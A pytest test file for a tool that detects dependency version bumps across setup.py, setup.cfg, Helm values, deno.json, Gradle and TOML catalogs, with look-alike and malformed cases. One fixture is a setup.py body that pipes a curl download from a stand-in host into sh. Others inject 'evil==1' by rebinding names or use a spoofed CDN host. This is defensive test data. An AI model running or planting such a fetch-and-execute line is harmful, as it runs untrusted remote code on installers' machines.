"""Classes of misses the forty-ninth blind set (bench/deps_bumps_fortyninth.tsv) and round 48's known misses left,
each with look-alikes that must not match and malformed variants that are a finding, never a crash."""

from __future__ import annotations

from pathlib import Path

import pytest
from tables import each_case

from gatekeeper.deps import deno, gradle, pypi, residue, setupfiles
from gatekeeper.deps.helmvalues import parse_values
from gatekeeper.deps.model import ManifestError, PartlyRead
from tests.deltas import both_edited, each_fast, moves, partial
from tests.gitrepo import GitRepo
from tests.test_classify_context import tree_files

# "Is this setup.py packaging?" has one answer, the classifier's (classify/sniff.setup_py_code): a module the content
# tier lowers to src is code to the delta too (it names nothing and its edits are no residue); every other setup.py is
# read as packaging, so an edit of its code is residue (a `partial` problem) and a module that does not parse is a
# problem. Bodies as real repositories write them, and look-alikes either way.
_FLASK_VIEW = "from flask import Blueprint, render_template\n\nbp = Blueprint('setup', __name__)\n\n\n" \
              "@bp.route('/setup')\ndef setup():\n    return render_template('setup.html')\n"
_SPHINX_BARE = "def setup(app):\n    app.add_css_file('custom.css')\n    return {'parallel_read_safe': True}\n"
_SPHINX_IMPORTS = "import os\n\n\ndef setup(app):\n    app.add_css_file(os.path.join('css', 'x.css'))\n"
_PY314 = "import numpy as np\n\n\ndef collect(x):\n    try:\n        return np.sum(x)\n" \
         "    except ValueError, TypeError:\n        return None\n"
_PACKAGING = "from setuptools import setup\n\nsetup(name='demo', install_requires=['idna>=2.5'])\n"
_RUNS_CODE = "import os\n\nos.system('curl -s https://example.invalid/x | sh')\n"
_REFLECTION = "import importlib\n\ngetattr(importlib.import_module('setup' 'tools'), 'setup')(**{'name': 'x'})\n"
_PRINT = "print('hello')\n"
_ANSIBLE = "DOCUMENTATION = '''\nmodule: setup\n'''\nfrom ansible.module_utils.basic import AnsibleModule\n\n\n" \
           "def main():\n    AnsibleModule(argument_spec={}).exit_json(changed=False)\n"
_BODIES = {"flask": _FLASK_VIEW, "sphinx-bare": _SPHINX_BARE, "sphinx-imports": _SPHINX_IMPORTS, "py314": _PY314,
           "packaging": _PACKAGING, "runs-code": _RUNS_CODE, "reflection": _REFLECTION, "print": _PRINT,
           "ansible": _ANSIBLE}


def _delta_reads_code(path: str, body: str) -> bool:
    """The delta's answer: a module it reads as code names nothing, parses or not, and an edit is no residue."""
    try:
        named = setupfiles.parse_setup_py(path, body.encode())
    except ManifestError:
        return False
    return named == [] and not residue.changed(path, body.encode(), (body + "\nx_gk = 1\n").encode())


def test_the_delta_asks_the_classifier_whether_a_setup_py_is_packaging(git_repo: GitRepo) -> None:
    paths = {f"{where}{name}/setup.py" if where else f"{name}/setup.py": body
             for name, body in _BODIES.items() for where in ("", "app/")}
    git_repo.write("README.md", "# proj\n")
    git_repo.write("setup.py", _RUNS_CODE)  # the root's: pip runs it whatever it holds
    for path, body in paths.items():
        git_repo.write(path, body)
    git_repo.commit("base")
    git_repo.write("setup.py", _RUNS_CODE + "\nx_gk = 1\n")
    for path, body in paths.items():
        git_repo.write(path, body + "\nx_gk = 1\n")
    git_repo.commit("head")
    classified = tree_files(git_repo)
    wrong = {path: classified[path].rule for path, body in {**paths, "setup.py": _RUNS_CODE}.items()
             if (classified[path].bucket == "src") != _delta_reads_code(path, body)}
    assert wrong == {}


@pytest.mark.parametrize("body", [_RUNS_CODE, _PY314, _SPHINX_IMPORTS, _FLASK_VIEW, _PRINT])
def test_the_roots_setup_py_is_packaging_whatever_it_holds(body: str) -> None:
    assert not _delta_reads_code("setup.py", body)


# setup(**params): the keywords kept in a module-level mapping bound once and spread into setup() — setuptools' own
# setup.py (`setup_params = dict(extras_require={"certs": "certifi==2016.8.8"})`, `setuptools.setup(**setup_params)`),
# Poetry's generated setup.py (`setup_kwargs = {'install_requires': install_requires, ...}`, `setup(**setup_kwargs)`).
_SETUPTOOLS_OWN = '''import setuptools

setup_params = dict(
    name="setuptools",
    version=read_version(),
    extras_require={
        "ssl:sys_platform=='win32'": "wincertstore==0.2",
        "certs": "certifi==2016.8.8",
    },
    dependency_links=[pypi_link('certifi-2016.8.8.tar.gz#md5=b575')],
)

if __name__ == '__main__':
    dist = setuptools.setup(**setup_params)
'''
_POETRY_GENERATED = '''# -*- coding: utf-8 -*-
from setuptools import setup

packages = ['demo']

install_requires = \\
['click>=8.0,<9.0', 'requests>=2.31.0,<3.0.0']

extras_require = \\
{'yaml': ['pyyaml>=6.0,<7.0']}

setup_kwargs = {
    'name': 'demo',
    'version': '1.2.0',
    'packages': packages,
    'install_requires': install_requires,
    'extras_require': extras_require,
    'python_requires': '>=3.8,<4.0',
}


setup(**setup_kwargs)
'''


@pytest.mark.parametrize("body, named", [
    (_SETUPTOOLS_OWN, ["wincertstore==0.2", "certifi==2016.8.8"]),
    (_POETRY_GENERATED, ["click>=8.0,<9.0", "requests>=2.31.0,<3.0.0", "pyyaml>=6.0,<7.0"]),
    ("from setuptools import setup\nsetup(**{'install_requires': ['a==1']})\n", ["a==1"]),
    ("from setuptools import setup\nsetup(**dict(tests_require=['pytest==8.0']))\n", ["pytest==8.0"]),
])
def test_setup_keywords_spread_from_a_literal_mapping_are_read(body: str, named: list[str]) -> None:
    want = {(r.name, r.version) for r in (pypi.pep508(line, "setup.py", "runtime") for line in named)}
    assert {(d.name, d.version) for d in setupfiles.parse_setup_py("setup.py", body.encode())} == want
    bumped = body.replace("certifi==2016.8.8", "certifi==2016.9.26").replace("'a==1'", "'a==2'")
    assert residue.changed("setup.py", body.encode(), bumped.encode()) is False
    # the real commit moved the download link beside it: code the reader does not read, residue (a `partial` problem)
    assert residue.changed("setup.py", body.encode(), body.replace("2016.8.8", "2016.9.26").encode()) is (
        "certifi-2016" in body)


@pytest.mark.parametrize("body", [
    _SETUPTOOLS_OWN.replace("if __name__", "setup_params['install_requires'] = ['x']\nif __name__"),  # changed later
    _SETUPTOOLS_OWN.replace("if __name__", "setup_params.update(install_requires=['x'])\nif __name__"),
    _SETUPTOOLS_OWN.replace("setup_params = dict(", "setup_params = dict(**base,"),  # a computed mapping merged in
    _SETUPTOOLS_OWN.replace("setup_params = dict(", "setup_params = build("),  # a call of anything else
    _POETRY_GENERATED.replace("setup_kwargs = {", "setup_kwargs = {**extra,"),
    _POETRY_GENERATED.replace("setup(**setup_kwargs)", "setup_kwargs = {}\nsetup(**setup_kwargs)"),  # bound twice
    "from setuptools import setup\nsetup(**{k: ['a==1'] for k in ('install_requires',)})\n",
    "from setuptools import setup\nsetup(**{'install_' + 'requires': ['a==1']})\n",
])
def test_a_spread_mapping_that_is_not_one_literal_stays_partial(body: str) -> None:
    with pytest.raises(PartlyRead):
        setupfiles.parse_setup_py("setup.py", body.encode())


# setuptools' own setup.py reads its commands with `exec(init_file.read(), command_ns)`: code run in a namespace of its
# own rebinds none of the module's names, so its literals are still read. Any way to hand exec the module's own names
# (globals(), vars(), a module's __dict__, sys.modules, no namespace at all) keeps the reader from trusting a name.
_OWN_NAMESPACE = '''import setuptools


def read_commands():
    command_ns = {}
    with open('setuptools/command/__init__.py') as init_file:
        exec(init_file.read(), command_ns)
    return command_ns['__all__']


install_requires = ['certifi==2016.8.8']
setuptools.setup(name='x', install_requires=install_requires)
'''


@pytest.mark.parametrize("body, read", [
    (_OWN_NAMESPACE, True),
    (_OWN_NAMESPACE.replace("command_ns = {}", "command_ns = dict()"), True),
    (_OWN_NAMESPACE.replace("exec(init_file.read(), command_ns)", "exec(init_file.read(), {}, command_ns)"), True),
    (_OWN_NAMESPACE.replace("exec(init_file.read(), command_ns)", "exec(init_file.read())"), False),
    (_OWN_NAMESPACE.replace("command_ns = {}", "command_ns = globals()"), False),
    (_OWN_NAMESPACE.replace("command_ns = {}", "import sys\n    command_ns = sys.modules[__name__].__dict__"), False),
    (_OWN_NAMESPACE.replace("command_ns = {}", "import sys\n    command_ns = vars(sys.modules[__name__])"), False),
    (_OWN_NAMESPACE.replace("exec(init_file.read(), command_ns)", "exec(init_file.read(), NS)"), False),  # unbound
    (_OWN_NAMESPACE.replace("exec(init_file.read(), command_ns)", "exec(init_file.read(), ns())"), False),
])
def test_exec_in_a_namespace_of_its_own_rebinds_no_module_name(body: str, read: bool) -> None:
    if read:
        assert [(d.name, d.version) for d in setupfiles.parse_setup_py("setup.py", body.encode())] == [
            ("certifi", "2016.8.8")]
    else:
        with pytest.raises(PartlyRead):
            setupfiles.parse_setup_py("setup.py", body.encode())


@pytest.mark.parametrize("change", [
    ("command_ns = {}", "import inspect\n    command_ns = inspect.currentframe().f_globals"),
    ("def read_commands():", "def read_commands(command_ns=None):"),  # a parameter: a caller may pass anything
    ("    command_ns = {}\n", "    command_ns = {}\n    for command_ns in [globals]:\n        pass\n"),
])
def test_a_namespace_that_may_be_the_modules_is_no_namespace_of_its_own(change: tuple[str, str]) -> None:
    with pytest.raises(PartlyRead):
        setupfiles.parse_setup_py("setup.py", _OWN_NAMESPACE.replace(*change).encode())


# A function's own locals() (setuptools' `"%(cmd)s = …" % locals()` in a generator) cannot rebind a module name; the
# module's locals() is its globals().
_LOCALS_IN_A_FUNCTION = _OWN_NAMESPACE.replace(
    "install_requires = ", "def scripts():\n    for cmd in read_commands():\n"
    "        yield '%(cmd)s = x' % locals()\n\n\ninstall_requires = ")
_REBIND = "{}()['install_requires'] = ['evil==1']\nsetuptools.setup("


@pytest.mark.parametrize("body, read", [
    (_LOCALS_IN_A_FUNCTION, True),
    (_LOCALS_IN_A_FUNCTION.replace("% locals()", "% vars()"), True),
    (_LOCALS_IN_A_FUNCTION.replace("setuptools.setup(", _REBIND.format("locals")), False),
    (_LOCALS_IN_A_FUNCTION.replace("setuptools.setup(", _REBIND.format("vars")), False),
    (_LOCALS_IN_A_FUNCTION.replace("% locals()", "% vars(sys)"), False),  # vars of a module: its namespace
])
def test_a_functions_own_locals_rebind_no_module_name(body: str, read: bool) -> None:
    test_exec_in_a_namespace_of_its_own_rebinds_no_module_name(body, read)


@pytest.mark.parametrize("body, read", [
    # setuptools' own: `"%(cmd)s = …" % locals()` in a module-level comprehension
    (_OWN_NAMESPACE.replace("setuptools.setup(name='x', ", "setuptools.setup(name='x', entry_points=["
                            "'%(cmd)s = x' % locals() for cmd in read_commands()], "), True),
    (_OWN_NAMESPACE.replace("setuptools.setup(", "[locals().update(install_requires=['evil==1']) for _ in [0]]\n"
                            "setuptools.setup("), False),
])
def test_formatting_reads_locals_and_a_comprehension_may_write_them(body: str, read: bool) -> None:
    test_exec_in_a_namespace_of_its_own_rebinds_no_module_name(body, read)


# helm/charts' older stable charts (consul, etcd-operator…) spell the untagged image and its sibling tag capitalized:
# `Image: "consul"` beside `ImageTag: "1.0.0"` ("Update consul image to 1.0.0"); read as `image:`/`imageTag:` are.
CONSUL_VALUES = """\
# Default values for consul.
Name: consul

Component: "consul"
Replicas: 3
Image: "consul"
ImageTag: "0.8.3"
ImagePullPolicy: "Always"
Resources: {}
"""


def test_capitalized_image_and_image_tag_are_read_with_tree_and_from_the_patch(tmp_path: Path) -> None:
    path = "stable/consul/values.yaml"
    tree, patch = both_edited(tmp_path, {path: CONSUL_VALUES}, {path: {'ImageTag: "0.8.3"': 'ImageTag: "1.0.0"'}})
    assert moves(tree) == moves(patch) == {("docker", "consul", "0.8.3", "1.0.0")}, (tree, patch)
    assert not tree.problems and not patch.problems, (tree.problems, patch.problems)


@each_case(("body", "named"), [
    ('Image: "consul"\nImageTag: "1.0.0"\n', {("consul", "1.0.0")}),
    ('Image: "quay.io/coreos/etcd-operator"\nImageTag: v0.2.6\n', {("quay.io/coreos/etcd-operator", "v0.2.6")}),
    ('Image: "consul"\n', set()),  # no tag: nothing
    ('ImageTag: "1.0.0"\n', set()),
    ('Image: "consul"\nimageTag: "1.0.0"\n', set()),  # two spellings are no one mapping's pair
    ('image: "consul"\nImageTag: "1.0.0"\n', set()),
    ('Image: "consul"\nImageTag: "1.0 rc"\n', set()),
    ('A:\n  Image: "consul"\nB:\n  ImageTag: "1.0.0"\n', set()),
])
def test_capitalized_image_tag_shapes_and_look_alikes(body: str, named: set[tuple[str, str]]) -> None:
    found = {(d.name, d.version) for d in parse_values("values.yaml", body.encode()) if d.ecosystem == "docker"}
    assert found == named


# denoland/fresh's import maps name npm packages through esm.sh with a query (`?external=preact`): the package at its
# version, as the other npm CDNs' URLs (jsDelivr's /npm/, unpkg, Skypack) are; any other URL stays named by itself.
FRESH_DENO_JSON = """{
  "imports": {
    "preact": "https://esm.sh/preact@10.19.2",
    "preact/": "https://esm.sh/preact@10.19.2/",
    "preact-render-to-string": "https://esm.sh/preact-render-to-string@6.4.1?external=preact",
    "$std/": "https://deno.land/std@0.211.0/"
  }
}
"""


def test_an_npm_cdn_url_with_a_query_is_read_with_tree_and_from_the_patch(tmp_path: Path) -> None:
    tree, patch = both_edited(tmp_path, {"deno.json": FRESH_DENO_JSON}, {"deno.json": {
        "preact-render-to-string@6.4.1?": "preact-render-to-string@6.4.2?"}})
    assert moves(tree) == moves(patch) == {("npm", "preact-render-to-string", "6.4.1", "6.4.2")}, (tree, patch)
    assert not tree.problems and not patch.problems, (tree.problems, patch.problems)


@each_case(("value", "found"), [
    ("https://esm.sh/preact-render-to-string@6.4.2?external=preact", ("npm", "preact-render-to-string", "6.4.2")),
    ("https://esm.sh/preact@10.19.2/hooks", ("npm", "preact", "10.19.2")),
    ("https://esm.sh/v135/@preact/signals@1.2.1?deps=preact@10.19.2", ("npm", "@preact/signals", "1.2.1")),
    ("https://esm.sh/*preact-render-to-string@6.4.2", ("npm", "preact-render-to-string", "6.4.2")),
    ("https://cdn.jsdelivr.net/npm/lodash-es@4.17.21/+esm", ("npm", "lodash-es", "4.17.21")),
    ("https://unpkg.com/htm@3.1.1?module", ("npm", "htm", "3.1.1")),
    ("https://cdn.skypack.dev/canvas-confetti@1.6.0", ("npm", "canvas-confetti", "1.6.0")),
    # look-alikes: no version, another host, a host whose name only starts alike: the URL itself, as before
    ("https://esm.sh/preact", ("deno", "https://esm.sh/preact", "")),
    ("https://esm.sh.evil.example/preact@10.0.0", ("deno", "https://esm.sh.evil.example/preact@10.0.0", "")),
    ("https://example.com/x/preact@10.0.0/mod.ts", ("deno", "https://example.com/x/preact@10.0.0/mod.ts", "")),
    ("https://esm.sh/preact@not a version", None),  # a space: no URL, refused
])
def test_npm_cdn_urls_and_look_alikes(value: str, found: tuple[str, str, str] | None) -> None:
    if found is None:
        with pytest.raises(ManifestError):
            deno.specifier(value)
    else:
        assert deno.specifier(value) == found


# JetBrains/compose-multiplatform's project templates apply their plugins in settings.gradle.kts at the versions
# gradle.properties holds, read through Kotlin's `extra["kotlin.version"] as String` ("Update Kotlin to 2.2.21" moves
# only gradle.properties): with --tree the settings script is read with the properties of its folder and above, as a
# build script's `$kotlinVersion` is; from a patch the key is a `partial` problem, as before (the uses are not shown).
TEMPLATE_SETTINGS = """pluginManagement {
    repositories {
        gradlePluginPortal()
        maven("https://maven.pkg.jetbrains.space/public/p/compose/dev")
    }

    plugins {
        kotlin("jvm").version(extra["kotlin.version"] as String)
        kotlin("plugin.compose").version(extra["kotlin.version"] as String)
        id("org.jetbrains.compose").version(extra["compose.version"] as String)
    }
}

rootProject.name = "desktop-template"
"""
TEMPLATE_PROPERTIES = "org.gradle.jvmargs=-Xmx2048m -Dfile.encoding=UTF-8\nkotlin.code.style=official\n" \
                      "kotlin.version=2.2.20\ncompose.version=1.9.0\n"
TEMPLATE = "ci/templates/desktop-template"


def test_settings_plugins_at_an_extra_property_move_with_gradle_properties(tmp_path: Path) -> None:
    files = {f"{TEMPLATE}/settings.gradle.kts": TEMPLATE_SETTINGS, f"{TEMPLATE}/gradle.properties": TEMPLATE_PROPERTIES}
    tree, patch = both_edited(tmp_path, files, {f"{TEMPLATE}/gradle.properties": {
        "kotlin.version=2.2.20": "kotlin.version=2.2.21"}})
    assert moves(tree) == {("maven", "org.jetbrains.kotlin.jvm", "2.2.20", "2.2.21"),
                           ("maven", "org.jetbrains.kotlin.plugin.compose", "2.2.20", "2.2.21")}, tree
    assert not tree.problems, tree.problems
    assert partial(patch, f"{TEMPLATE}/gradle.properties"), patch


def test_settings_plugins_moved_in_the_script_itself_are_read(tmp_path: Path) -> None:
    files = {f"{TEMPLATE}/settings.gradle.kts": TEMPLATE_SETTINGS, f"{TEMPLATE}/gradle.properties": TEMPLATE_PROPERTIES}
    tree, _ = both_edited(tmp_path, files, {f"{TEMPLATE}/settings.gradle.kts": {
        'id("org.jetbrains.compose").version(extra["compose.version"] as String)':
        'id("org.jetbrains.compose").version("1.9.1")'}})
    assert moves(tree) == {("maven", "org.jetbrains.compose", "1.9.0", "1.9.1")}, tree


@each_case(("line", "named"), [
    ('kotlin("jvm").version("2.2.21")', {("org.jetbrains.kotlin.jvm", "2.2.21")}),
    ('id("org.jetbrains.compose").version("1.9.0")', {("org.jetbrains.compose", "1.9.0")}),
    ('id("org.jetbrains.compose") . version ( "1.9.0" )', {("org.jetbrains.compose", "1.9.0")}),
    ('kotlin("jvm").version(extra["kotlin.version"] as String)', {("org.jetbrains.kotlin.jvm", "2.2.21")}),
    ('id("x.y").version(extra["missing.version"] as String)', {("x.y", "$missing.version")}),  # unresolved: named so
    ('id "org.jetbrains.compose" version "1.9.0"', {("org.jetbrains.compose", "1.9.0")}),  # Groovy, as before
    # look-alikes: no version set on the plugin
    ('id("x.y").versionCatalog("1.0")', set()),
    ('kotlin("jvm").version(computeVersion())', set()),
    ('val version = "1.0"', set()),
])
def test_plugin_version_call_shapes(line: str, named: set[tuple[str, str]]) -> None:
    found = gradle.parse_build_script("settings.gradle.kts", f"plugins {{\n    {line}\n}}\n".encode(),
                                      {"kotlin.version": "2.2.21"})
    assert {(d.name, d.version) for d in found} == named


def test_a_settings_line_at_a_property_from_a_patch_is_refused_not_named(tmp_path: Path) -> None:
    files = {f"{TEMPLATE}/settings.gradle.kts": TEMPLATE_SETTINGS, f"{TEMPLATE}/gradle.properties": TEMPLATE_PROPERTIES}
    tree, patch = both_edited(tmp_path, files, {f"{TEMPLATE}/settings.gradle.kts": {
        '["kotlin.version"] as String)\n        kotlin("plugin': '["kotlin.next"] as String)\n        kotlin("plugin'}})
    assert partial(patch, f"{TEMPLATE}/settings.gradle.kts"), patch  # the property's value is not in the patch
    assert ("maven", "org.jetbrains.kotlin.jvm", "2.2.20", "$kotlin.next") in moves(tree)  # not defined: named so


# halo-dev/halo's catalog writes its entries as TOML literal strings, `'g:a:v'` in single quotes ("bump
# r2dbc-migrate-spring-boot-starter to 4.0.1"): the hunk reader took only double-quoted strings and refused the line.
HALO_CATALOG = "[versions]\nspringdoc = '2.8.9'\n\n[libraries]\n" + "".join(
    f"lib{i} = 'org.example:lib{i}:1.{i}'\n" for i in range(12)) + \
    "r2dbc-migrate-starter = 'name.nkonev.r2dbc-migrate:r2dbc-migrate-spring-boot-starter:3.3.0'\n" \
    "springdoc = { module = 'org.springdoc:springdoc-openapi-starter-webflux-ui', version.ref = 'springdoc' }\n\n" \
    "[bundles]\nall = ['lib1', 'lib2']\n"
R2DBC = "name.nkonev.r2dbc-migrate:r2dbc-migrate-spring-boot-starter"


@pytest.mark.parametrize("old, new, want", [
    ("starter:3.3.0'", "starter:4.0.1'", {("maven", R2DBC, "3.3.0", "4.0.1")}),  # its [libraries] header out of sight
    ("lib0:1.0'", "lib0:1.1'", {("maven", "org.example:lib0", "1.0", "1.1")}),  # the header shown above
])
def test_a_catalogs_single_quoted_library_from_a_patch(tmp_path: Path, old: str, new: str,
                                                         want: set[tuple[str, str, str, str]]) -> None:
    path = "gradle/libs.versions.toml"
    tree, patch = both_edited(tmp_path, {path: HALO_CATALOG}, {path: {old: new}})
    assert moves(tree) == moves(patch) == want, (tree, patch)


def test_a_catalogs_single_quoted_version_key_from_a_patch_is_refused(tmp_path: Path) -> None:
    path = "gradle/libs.versions.toml"
    tree, patch = both_edited(tmp_path, {path: HALO_CATALOG}, {path: {"springdoc = '2.8.9'": "springdoc = '2.8.10'"}})
    assert not moves(patch) and partial(patch, path), patch  # a [versions] key: its users are elsewhere


# From a patch a setup.py or setup.cfg was always a `partial` problem naming nothing. A changed line that is one
# literal requirement of a list (or an extras mapping) whose opening keyword the hunk shows — `install_requires=[`,
# `extras_require={` with `"certs": "certifi==2016.8.8",` (setuptools' own), setup.cfg's `install_requires =` with its
# continuation lines under `[options]` — is named now; setup.py stays `partial` beside it (whether the list reaches
# setup() is code the patch does not show: pass --tree), and so does a setup.cfg hunk that does not show `[options]`.
SETUP_PY = """from setuptools import setup

setup(
    name="demo",
    version="1.0",
    install_requires=[
        "idna>=2.5,<4",
        "requests==2.31.0",  # pinned
        'urllib3>=1.26',
    ],
    extras_require={
        "certs": "certifi==2016.8.2",
        "socks": [
            "PySocks>=1.5.6,!=1.5.7",
        ],
    },
    tests_require=["pytest==7.0.0"],
)
"""
SETUP_CFG = """[metadata]
name = demo
version = 1.0

[options]
packages = find:
install_requires =
    idna>=2.5,<4
    requests==2.31.0
python_requires = >=3.8

[options.extras_require]
socks = PySocks>=1.5.6,!=1.5.7

[flake8]
max-line-length = 120
"""


@pytest.mark.parametrize("path, body, old, new, want", [
    ("setup.py", SETUP_PY, '"requests==2.31.0"', '"requests==2.32.0"', ("requests", "2.31.0", "2.32.0")),
    ("setup.py", SETUP_PY, "'urllib3>=1.26'", "'urllib3>=2.0'", ("urllib3", ">=1.26", ">=2.0")),
    ("setup.py", SETUP_PY, '"certifi==2016.8.2"', '"certifi==2016.8.8"', ("certifi", "2016.8.2", "2016.8.8")),
    ("setup.py", SETUP_PY, '"PySocks>=1.5.6,!=1.5.7"', '"PySocks>=1.7"', ("PySocks", "!=1.5.7,>=1.5.6", ">=1.7")),
    ("setup.cfg", SETUP_CFG, "idna>=2.5,<4", "idna>=3.7", ("idna", "<4,>=2.5", ">=3.7")),  # [options] shown above
    ("setup.cfg", SETUP_CFG, "socks = PySocks>=1.5.6,!=1.5.7", "socks = PySocks>=1.7",
     ("PySocks", "!=1.5.7,>=1.5.6", ">=1.7")),
])
def test_a_setup_requirement_line_from_a_patch_is_named(tmp_path: Path, path: str, body: str, old: str, new: str,
                                                        want: tuple[str, str, str]) -> None:
    tree, patch = both_edited(tmp_path, {path: body}, {path: {old: new}})
    assert {(n, a, b) for _, n, a, b in moves(patch)} == {want} == {(n, a, b) for _, n, a, b in moves(tree)}, patch
    assert partial(patch, path) is (path == "setup.py"), patch.problems


@pytest.mark.parametrize("path, body, old, new", [
    ("setup.py", SETUP_PY, 'version="1.0"', 'version="1.1"'),  # the package's own version: code
    ("setup.py", SETUP_PY, 'name="demo"', 'name="demo", cmdclass={"x": X}'),
    ("setup.py", SETUP_PY.replace("install_requires=[", "scripts=["), '"requests==2.31.0"', '"requests==2.32.0"'),
    ("setup.py", SETUP_PY, '"requests==2.31.0",  # pinned', 'f"requests=={V}",'),  # computed
    ("setup.cfg", SETUP_CFG, "max-line-length = 120", "max-line-length = 100"),  # a tool's setting
    ("setup.cfg", SETUP_CFG, "version = 1.0", "version = 1.1"),
    ("setup.cfg", SETUP_CFG.replace("install_requires =", "packages_extra ="), "requests==2.31.0",
     "requests==2.32.0"),
])
def test_other_setup_lines_from_a_patch_stay_partial_naming_nothing(tmp_path: Path, path: str, body: str, old: str,
                                                                     new: str) -> None:
    _, patch = both_edited(tmp_path, {path: body}, {path: {old: new}})
    assert not moves(patch) and partial(patch, path), patch


def test_a_setup_cfg_hunk_without_its_section_names_beside_a_problem(tmp_path: Path) -> None:
    body = SETUP_CFG.replace("[options]\n", "[options]\n" + "".join(f"x{i} = {i}\n" for i in range(8)))
    _, patch = both_edited(tmp_path, {"setup.cfg": body}, {"setup.cfg": {"requests==2.31.0": "requests==2.32.0"}})
    assert moves(patch) == {("pip", "requests", "2.31.0", "2.32.0")} and partial(patch, "setup.cfg"), patch


def test_long_setup_hunks_are_read_in_bounded_time() -> None:
    from gatekeeper.deps import hunks
    from gatekeeper.deps.setuphunks import setup_cfg_line, setup_py_line
    for size in (5_000,):  # an unbounded walk takes tens of seconds here
        py = [("    install_requires=[", False)] + [(f'        "a{i}==1.{i}",', True) for i in range(size)]
        cfg = [("[options]", False), ("install_requires =", False)] + [(f"    a{i}==1.{i}", True) for i in range(size)]
        calls = [(lambda side=py, reader=setup_py_line: _each_line(reader, side), f"{size} setup.py"),
                 (lambda side=cfg, reader=setup_cfg_line: _each_line(reader, side), f"{size} setup.cfg")]
        each_fast(calls, 10.0)
    assert hunks.HUNK  # the module the readers' sides come from


def _each_line(reader: object, side: list[tuple[str, bool]]) -> None:
    for index in range(len(side)):
        try:
            reader(side, index)  # type: ignore[operator]
        except ManifestError:
            pass  # past the walk's bound: refused (PartlyShown is one too)
